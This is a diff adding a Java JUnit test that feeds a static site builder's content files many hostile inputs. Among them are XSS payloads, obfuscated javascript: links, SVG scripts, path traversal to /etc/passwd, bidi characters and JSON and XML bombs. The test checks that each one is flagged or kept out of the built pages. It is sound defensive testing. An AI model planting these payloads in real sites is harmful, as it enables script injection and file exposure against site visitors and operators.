@@ -1,0 +1,287 @@
+package derek.build;
+
+import static java.nio.charset.StandardCharsets.UTF_16LE;
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import derek.diagnostic.Diagnostic;
+import derek.mirror.SmallProject;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.regex.Pattern;
+import java.util.stream.Stream;
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Attribute;
+import org.jsoup.nodes.Document;
+import org.jsoup.nodes.Element;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * Content is not trusted. Each attack is told by its diagnostic, and nothing of it reaches a page:
+ * either there is no site, or every page of it is free of what could act.
+ */
+class AttackedContentTest {
+  private static final String MARKDOWN = "content/protests/square-picket/en.md";
+  private static final String RECORD = "content/people/aigul-sample/record.json";
+  private static final Pattern SCHEME =
+      Pattern.compile("(?i)^[\\s\\p{Cntrl}]*(javascript|vbscript|data|file|blob)[\\s\\p{Cntrl}]*:");
+
+  @TempDir Path project;
+
+  /**
+   * What an attacker changes.
+   *
+   * @param code the diagnostic that tells of it; empty where any error does; null where it stays
+   *     plain text, which acts on nobody
+   */
+  private record Attack(String name, String code, Change change) {
+    @Override
+    public String toString() {
+      return name;
+    }
+  }
+
+  /** A change of a project. */
+  private interface Change {
+    void in(Path project) throws IOException;
+  }
+
+  static Stream<Attack> attacks() {
+    return Stream.of(markdown(), links(), records(), names(), files(), pictures())
+        .flatMap(List::stream);
+  }
+
+  private static List<Attack> markdown() {
+    return List.of(
+        text("script", "raw-html", "<script>evil()</script>"),
+        text("script in capitals", "raw-html", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
+        text("event attribute", "raw-html", "<b onclick=\"evil()\">b</b>"),
+        text("event attribute after a slash", null, "<img/src=x/onerror=evil()>"),
+        text("unclosed tag", null, "<img src=x onerror=evil() "),
+        text("SVG", "raw-html", "<svg onload=evil()><script>evil()</script></svg>"),
+        text("MathML", "raw-html", "<math><mtext><style><img src onerror=evil()></style></mtext>"),
+        text("frame", "raw-html", "<iframe srcdoc='&lt;script>evil()&lt;/script>'></iframe>"),
+        text("style", "raw-html", "<p style=\"background:url(//evil.example)\">x</p>"),
+        text("base", "raw-html", "<base href=\"//evil.example/\">"),
+        text("form", "raw-html", "<form action=//evil.example><input name=evil></form>"),
+        text("comment", null, "<!-- evil --> text"),
+        text("conditional comment", null, "<!--[if IE]><script>evil()</script><![endif]-->"),
+        text("picture from elsewhere", "markdown-unsupported", "![evil](https://evil.example/x)"),
+        text("attributes", "markdown-attribute", "word {onclick=evil()}"),
+        text("deep quotes", "markdown-nesting", "\n\n" + "> ".repeat(2000) + "evil"),
+        text("deep emphasis", null, "*a _b ".repeat(5000)),
+        text("deep brackets", null, "[".repeat(20_000)),
+        text("bidi override", "forbidden-character", "\u202Eevil\u202C"),
+        text("bidi isolate", "forbidden-character", "\u2067evil\u2069"),
+        text("zero width space", "forbidden-character", "ev\u200Bil"),
+        text("NUL", "forbidden-character", "ev\0il"),
+        text("escape sequence", "forbidden-character", "\u001B]0;evil\u0007"));
+  }
+
+  private static List<Attack> links() {
+    return Stream.of(
+            "javascript:evil()",
+            "JaVaScRiPt:evil()",
+            "javascript&colon;evil()",
+            "&#106;avascript:evil()",
+            "&#x6A;avascript&#x3A;evil()",
+            "java%73cript:evil()",
+            "%6aavascript:evil()",
+            "<java&Tab;script:evil()>",
+            "<java&NewLine;script:evil()>",
+            "<&#1;javascript:evil()>",
+            "vbscript:evil()",
+            "data:text/html,evil",
+            "data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=",
+            "//evil.example/",
+            "\\\\\\\\evil.example/",
+            "/evil",
+            "../../evil",
+            "file:///etc/passwd",
+            "blob:https://evil.example/1",
+            "https:evil.example",
+            "https://user:evil@evil.example/",
+            "person:../../evil",
+            "person:%2e%2e",
+            "рerson:aigul-sample",
+            "person:аigul-sample")
+        .map(address -> text("link to " + address, "", "[evil](" + address + ")"))
+        .toList();
+  }
+
+  private static List<Attack> records() {
+    return List.of(
+        json("a script as a name", null, "Aigul Ulgi", "<script>evil()</script>"),
+        json("an end of a script", null, "Aigul Ulgi", "</script><script>evil()</script>"),
+        json("an escaped attribute", null, "Aigul Ulgi", "\\\" onmouseover=\\\"evil()"),
+        json("a template as a name", null, "Aigul Ulgi", "{{ page.getClass() }}{% evil %}"),
+        json("an escaped bidi control", "forbidden-character", "Aigul Ulgi", "\\u202Eevil"),
+        json("an escaped NUL", "forbidden-character", "Aigul Ulgi", "ev\\u0000il"),
+        json("half a surrogate", "forbidden-character", "Aigul Ulgi", "evil\\uD800"),
+        json("a path as a citation", "", "report#1", "../../evil#1"),
+        json("deep nesting", "json-limits", "\"lead\"", "\"x\": " + "[".repeat(100_000)),
+        json("an enormous number", "json-limits", "\"lead\"", "\"x\": " + "9".repeat(100_000)),
+        json("an enormous exponent", "", "\"lead\"", "\"x\": 1e999999999, \"lead\""),
+        json("an unknown field", "unknown-field", "\"lead\"", "\"__proto__\": {}, \"lead\""),
+        json("one field twice", "duplicate-field", "\"lead\"", "\"lead\": {}, \"lead\""),
+        write("a script's address", "", "content/site.json", "https://sample", "javascript://s"),
+        write(
+            "an address with a quotation mark",
+            "",
+            "content/site.json",
+            "https://sample.example/",
+            "https://evil.example/\\\" onload=\\\"evil()/"),
+        write("a language as a path", "", "content/site.json", "\"en\"", "\"../evil\""));
+  }
+
+  private static List<Attack> names() {
+    return Stream.of("con", "nul", "com1", "Evil", "аigul", "a..b", "a b", "a\u202Eb", "-a", "a'b")
+        .map(
+            name ->
+                new Attack(
+                    "the id " + name,
+                    "invalid-id",
+                    project ->
+                        put(
+                            project,
+                            "content/people/" + name + "/record.json",
+                            "{}".getBytes(UTF_8))))
+        .toList();
+  }
+
+  private static List<Attack> files() {
+    return List.of(
+        new Attack(
+            "a link out of content/",
+            "link-outside",
+            project -> {
+              Files.delete(project.resolve(MARKDOWN));
+              Files.createSymbolicLink(project.resolve(MARKDOWN), Path.of("/etc/passwd"));
+            }),
+        new Attack(
+            "a folder's link to itself",
+            null,
+            project ->
+                Files.createSymbolicLink(
+                    project.resolve("content/people/loop"), project.resolve("content/people"))),
+        new Attack(
+            "a file of many megabytes",
+            "file-too-large",
+            project -> put(project, MARKDOWN, new byte[3 << 20])),
+        new Attack(
+            "UTF-16", "", project -> put(project, MARKDOWN, "<script>evil".getBytes(UTF_16LE))),
+        new Attack(
+            "overlong UTF-8",
+            "encoding",
+            project -> put(project, MARKDOWN, new byte[] {(byte) 0xC0, (byte) 0xBC})),
+        new Attack(
+            "a page beside the records",
+            "stray-file",
+            project -> put(project, "content/people/evil.html", "evil".getBytes(UTF_8))));
+  }
+
+  private static List<Attack> pictures() {
+    return Stream.of(
+            "<svg><script>evil()</script></svg>",
+            "<svg><s:script xmlns:s='http://www.w3.org/2000/svg'>evil()</s:script></svg>",
+            "<svg onload='evil()'/>",
+            "<svg><g\nonclick = \"evil()\"/></svg>",
+            "<svg><a href='javascript:evil()'>x</a></svg>",
+            "<svg><a xlink:href='&#106;ava&#9;script:evil()'>x</a></svg>",
+            "<svg><image href='https://evil.example/x'/></svg>",
+            "<svg><use href='data:image/svg+xml,evil'/></svg>",
+            "<svg><style>@import '//evil.example/x'</style></svg>",
+            "<svg><rect fill='url(https://evil.example/#x)'/></svg>",
+            "<svg><foreignObject><b>evil</b></foreignObject></svg>",
+            "<svg><set attributeName='href' to='javascript:evil()'/></svg>",
+            "<!DOCTYPE svg [<!ENTITY a 'evil'><!ENTITY b '&a;&a;'>]><svg>&b;</svg>",
+            "<?xml-stylesheet href='//evil.example/x'?><svg/>",
+            "<?xml version='1.0' encoding='utf-7'?><svg>+ADw-script+AD4-evil</svg>")
+        .map(
+            svg ->
+                new Attack(
+                    "the picture " + svg,
+                    "unsafe-asset",
+                    project -> put(project, "assets/evil.svg", svg.getBytes(UTF_8))))
+        .toList();
+  }
+
+  private static Attack text(String name, String code, String attack) {
+    return new Attack(
+        name,
+        code,
+        project -> put(project, MARKDOWN, ("A " + attack + " [@report#1].\n").getBytes(UTF_8)));
+  }
+
+  private static Attack json(String name, String code, String old, String attack) {
+    return write(name, code, RECORD, old, attack);
+  }
+
+  private static Attack write(String name, String code, String file, String old, String attack) {
+    return new Attack(
+        name,
+        code,
+        project -> {
+          String text = Files.readString(project.resolve(file));
+          assertThat(text).contains(old);
+          put(project, file, text.replace(old, attack).getBytes(UTF_8));
+        });
+  }
+
+  private static void put(Path project, String file, byte[] bytes) throws IOException {
+    Files.createDirectories(project.resolve(file).getParent());
+    Files.write(project.resolve(file), bytes);
+  }
+
+  @BeforeEach
+  void copySample() throws IOException {
+    SmallProject.copyTo(project);
+  }
+
+  @ParameterizedTest
+  @MethodSource("attacks")
+  void isToldAndDoesNotReachAPage(Attack attack) throws IOException {
+    attack.change().in(project);
+
+    BuildReport report = new SiteBuilder(ProjectLayout.of(project), BuildOptions.DEFAULT).build();
+
+    List<String> codes = report.diagnostics().stream().map(Diagnostic::code).distinct().toList();
+    if ("".equals(attack.code())) {
+      assertThat(report.outcome()).as("%s", codes).isEqualTo(BuildReport.Outcome.FAILED);
+    } else if (attack.code() != null) {
+      assertThat(codes).contains(attack.code());
+    }
+    if (report.outcome() == BuildReport.Outcome.FAILED) {
+      assertThat(project.resolve("site-output")).doesNotExist();
+    } else {
+      assertHarmless();
+    }
+  }
+
+  private void assertHarmless() throws IOException {
+    try (Stream<Path> files = Files.walk(project.resolve("site-output"))) {
+      for (Path file : files.filter(each -> each.toString().endsWith(".html")).toList()) {
+        Document page = Jsoup.parse(Files.readString(file));
+        assertThat(page.select("script:not([src],[type$=json]), iframe, object, embed, base, svg"))
+            .isEmpty();
+        assertThat(page.select("img, form, [style]").outerHtml()).doesNotContain("evil");
+        for (Element element : page.getAllElements()) {
+          element.attributes().forEach(each -> assertHarmless(file, each));
+        }
+      }
+    }
+  }
+
+  private static void assertHarmless(Path file, Attribute attribute) {
+    assertThat(attribute.getKey()).as("%s", file).doesNotStartWith("on");
+    assertThat(SCHEME.matcher(attribute.getValue()).find()).as("%s", attribute).isFalse();
+    if (attribute.getKey().equals("href") || attribute.getKey().equals("src")) {
+      assertThat(attribute.getValue()).doesNotContain("evil");
+    }
+  }
+}
